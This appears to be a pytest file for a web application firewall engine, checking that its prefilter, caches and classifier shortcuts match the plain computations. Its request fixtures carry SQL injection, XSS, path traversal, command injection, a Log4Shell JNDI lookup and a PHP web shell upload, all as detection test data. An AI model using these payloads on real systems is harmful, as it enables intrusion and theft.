"""The engine's fast paths give exactly what the straightforward computation gives: the signature
prefilter (no start offsets), shared view lists and framed buffers, the cross-request memos of
views, libinjection and the classifier, and the classifier's shortcut for anchor-free values."""

from __future__ import annotations

import dataclasses
import math

import hyperscan
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from siren.engine import Engine, Request
from siren.engine.context import Context
from siren.engine.detectors.classifier import Model, load_default_model
from siren.engine.detectors.injection import InjectionDetector
from siren.engine.detectors.signatures import SignatureDetector
from siren.engine.features import features, iter_windows, tokenize
from siren.engine.limits import Limits
from siren.engine.ruleset import Rule, Ruleset, compile_ruleset
from siren.engine.targets import Target, extract_targets
from siren.engine.transforms import apply_chain
from siren.engine.views import VIEWS, ViewCache, chain, clear_memo
from siren.testing import make_request

REQUESTS = [
    make_request("/?q=%27%20OR%201%3D1--&x=%3Cscript%3Ealert(1)%3C/script%3E"),
    make_request("/a/../../etc/passwd?file=..%2f..%2fetc%2fpasswd"),
    make_request("/search?q=union+station+to+brooklyn&sort=price"),
    make_request("/api", json_body={"cmd": "; cat /etc/passwd", "n": 1, "t": "a\tb  c /* x */"}),
    make_request("/login", form={"user": "admin' UNION SELECT password FROM users--", "pw": "x"}),
    make_request("/p", headers={"User-Agent": "sqlmap/1.7", "X-Api": "${jndi:ldap://x/a}", "Cookie": "s=abc; t=%3Cimg%20src%3Dx%3E"}),
    make_request("/x?a=%u0027%u003e&b=%c0%ae%c0%ae/&c=caf%C3%A9&d=%ED%A0%80"),
    make_request("/v?a=\\x3cscript\\x3e&b=&#x3c;svg/onload=alert(1)&#x3e;&c=$(id)&d=a%00b"),
    Request("POST", "/upload", (("Host", "x"), ("Content-Type", "multipart/form-data; boundary=B")),
            b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--B--\r\n"),
    Request("POST", "/xml", (("Host", "x"), ("Content-Type", "application/xml")),
            b"<?xml version=\"1.0\"?><r a=\"1 or 1=1\"><b>&lt;script&gt;</b></r>"),
]


@pytest.fixture(scope="module")
def ruleset(engine: Engine) -> Ruleset:
    return engine.ruleset


def _context(request: Request) -> Context:
    ex = extract_targets(request, Limits())
    return Context(request, ex.targets, ViewCache([t.value for t in ex.targets]))


def _without_prefilter(ruleset: Ruleset) -> Ruleset:
    return dataclasses.replace(ruleset, views={v: dataclasses.replace(c, prefilter=None) for v, c in ruleset.views.items()})


def test_prefilter_changes_no_finding_nor_their_order(ruleset: Ruleset) -> None:
    assert any(c.prefilter is not None for c in ruleset.views.values())
    fast, slow = SignatureDetector(ruleset), SignatureDetector(_without_prefilter(ruleset))
    found = 0
    for request in REQUESTS:
        expected = slow.detect(_context(request))
        assert fast.detect(_context(request)) == expected, request.target
        found += len(expected)
    assert found > 10


def _hits(db: object, data: bytes) -> list[tuple[int, int]]:
    out: list[tuple[int, int]] = []

    def on_match(rule: int, _start: int, end: int, _flags: int, _ctx: object) -> bool:
        out.append((rule, end))
        return False

    db.scan(data, match_event_handler=on_match)  # type: ignore[attr-defined]
    return out


ATTACKISH = st.lists(
    st.sampled_from([*"ab01 '\"<>/\\.;:=()-#*%&|$`{}\n\x00", "select ", "union ", "script", "etc/passwd", "../", "or "]), max_size=40
).map("".join)


@settings(max_examples=150, deadline=None)
@given(ATTACKISH)
def test_prefilter_reports_the_same_rule_end_matches(ruleset: Ruleset, text: str) -> None:
    data = b"\x00" + text.encode() + b"\x00"
    for compiled in ruleset.views.values():
        if compiled.prefilter is not None:
            assert sorted(set(_hits(compiled.prefilter, data))) == sorted(set(_hits(compiled.database, data)))


def test_prefilter_compiled_without_cache_matches_the_cached_one(ruleset: Ruleset) -> None:
    rules: list[Rule] = [r for c in ruleset.views.values() for r in c.rules]
    fresh = compile_ruleset(rules, use_cache=False)
    for view, compiled in fresh.views.items():
        assert (compiled.prefilter is None) == (not any(compiled.som)), view
        assert (compiled.prefilter is None) == (ruleset.views[view].prefilter is None)


def test_views_equal_their_transform_chains_and_share_unchanged_lists() -> None:
    clear_memo()
    values = ["Plain Value", "a%2527b", "x\\u003cy", "/a//./b\\c", "UNION/**/SELECT  1", "caf\u00e9", "\ud800", "", "a\x00b"]
    for _ in range(2):  # computed, then from the memo
        cache = ViewCache(values)
        for view in VIEWS:
            if view == "raw":
                expected = [v.replace("\x00", "%00") for v in values]
            else:
                expected = [apply_chain(v, chain(view)) for v in values]
            assert cache.get(view) == expected, view
    cache = ViewCache(["abc", "def"])
    assert cache.get("js") is cache.get("decoded")  # nothing to decode: one list, one buffer
    assert cache.framed("js") is cache.framed("decoded")
    assert cache.get("cmd") is not cache.get("decoded")


@pytest.mark.parametrize("values", [["ab", "", "c\u00e9", "\ud800x"], ["ascii", "only"], [], [""]])
def test_framed_buffer_layout(values: list[str]) -> None:
    buffer, starts, ends = ViewCache(values).framed("raw")
    encoded = [v.encode("utf-8", "surrogatepass") for v in values]
    assert buffer == b"\x00" + b"\x00".join(encoded) + b"\x00"
    for e, s, t in zip(encoded, starts, ends, strict=True):
        assert buffer[s:t] == e and buffer[s - 1] == 0 and buffer[t] == 0


def test_memos_do_not_depend_on_what_was_inspected_before(engine: Engine) -> None:
    engine.clear_caches()
    first = [engine.inspect(r) for r in REQUESTS]
    again = [engine.inspect(r) for r in reversed(REQUESTS)][::-1]
    engine.clear_caches()
    cold = []
    for r in REQUESTS:
        engine.clear_caches()
        cold.append(engine.inspect(r))
    assert first == again == cold


def test_libinjection_memo() -> None:
    det = InjectionDetector()
    ctx = _context(REQUESTS[0])
    a = det.detect(ctx)
    b = det.detect(_context(REQUESTS[0]))
    det.clear_cache()
    assert a == b == det.detect(_context(REQUESTS[0])) and a


def _reference_probability(model: Model, text: str) -> float:
    m = max(math.fsum([model.bias, *(model.weights[f] for f in model._keys.intersection(w))]) for w in iter_windows(text))
    return 1.0 / (1.0 + math.exp(-m)) if m >= 0 else math.exp(m) / (1.0 + math.exp(m))


TEXTS = ["hello world/page", "1' or '1'='1", "<svg/onload=alert(1)>", "a=b&c=d", "{{7*7}}", "../../etc/passwd", "x" * 40 + " ; ls -la"]


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(TEXTS) | ATTACKISH)
def test_classifier_shortcuts_give_the_same_numbers(text: str) -> None:
    model = load_default_model()
    assert model is not None
    assert model.probability(text) == _reference_probability(model, text)
    feats = features(text)
    assert model.explain(feats) == (model.category(feats), model.top_features(feats))
    assert model.token_probability(tokenize(text)) == model.probability(text)


def test_target_is_an_immutable_record() -> None:
    t = Target("ARGS", "ARGS:q", "v")
    assert (t.collection, t.name, t.value) == ("ARGS", "ARGS:q", "v")
    with pytest.raises(AttributeError):
        t.value = "w"  # type: ignore[misc]
    assert t in extract_targets(make_request("/?q=v"), Limits()).targets


def test_hyperscan_scan_context_argument() -> None:
    # the detector passes its hit list as the scan's context instead of building closures
    db = hyperscan.Database()
    db.compile(expressions=[b"ab"], ids=[0], elements=1, flags=[0])
    db.scratch = hyperscan.Scratch(db)
    assert _hits(db, b"xxabab") == [(0, 4), (0, 6)]
